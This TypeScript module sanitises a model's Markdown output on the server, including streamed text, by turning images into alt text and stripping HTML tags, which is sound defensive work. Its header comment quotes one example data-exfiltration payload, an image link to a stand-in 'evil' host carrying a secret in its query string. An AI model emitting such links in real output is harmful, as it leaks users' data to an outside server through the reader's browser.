/**
 * A model's Markdown made safe before it leaves the server (the web renders safely too; this is the second
 * wall): images — a remote image is a request the reader's browser makes, e.g. `![x](https://evil/?d=secret)` —
 * become their alt text, and raw HTML tags are dropped.
 */
const IMAGE = /!\[([^\]\n]*)\]\([^)\n]*\)/g;
const TAG = /<\/?[a-zA-Z][^<>\n]*>|<!--[\s\S]*?-->/g;

export const safeMarkdown = (s: string) => s.replace(IMAGE, '$1').replace(TAG, '');

/** Every string in a model's structured output, made safe. */
export function safeStrings<T>(v: T): T {
  if (typeof v === 'string') return safeMarkdown(v) as T;
  if (Array.isArray(v)) return v.map(safeStrings) as T;
  if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, safeStrings(x)])) as T;
  return v;
}

/** How much of a streamed text can go out now: up to an image or a tag that may still be open. */
export function safeCut(s: string): number {
  const image = s.lastIndexOf('![');
  const tag = s.lastIndexOf('<');
  const open: number[] = [];
  if (image >= 0 && !s.slice(image).includes('\n') && !/^!\[[^\]\n]*\]\([^)\n]*\)/.test(s.slice(image))) open.push(image);
  if (tag >= 0 && /^<(?:[/!a-zA-Z]|$)/.test(s.slice(tag)) && !/^<[^<>\n]*>/.test(s.slice(tag)) && !s.slice(tag).includes('\n')) open.push(tag);
  return open.length ? Math.min(...open) : s.length;
}
const HOLD_AT_MOST = 2000;

/** A streamed text made safe piece by piece, holding back only what might be the start of an image or a tag. */
export async function* safeStream(deltas: AsyncIterable<string>): AsyncGenerator<string> {
  let pending = '';
  for await (const d of deltas) {
    pending += d;
    const cut = pending.length > HOLD_AT_MOST ? pending.length : safeCut(pending);
    if (cut > 0) {
      yield safeMarkdown(pending.slice(0, cut));
      pending = pending.slice(cut);
    }
  }
  if (pending) yield safeMarkdown(pending);
}
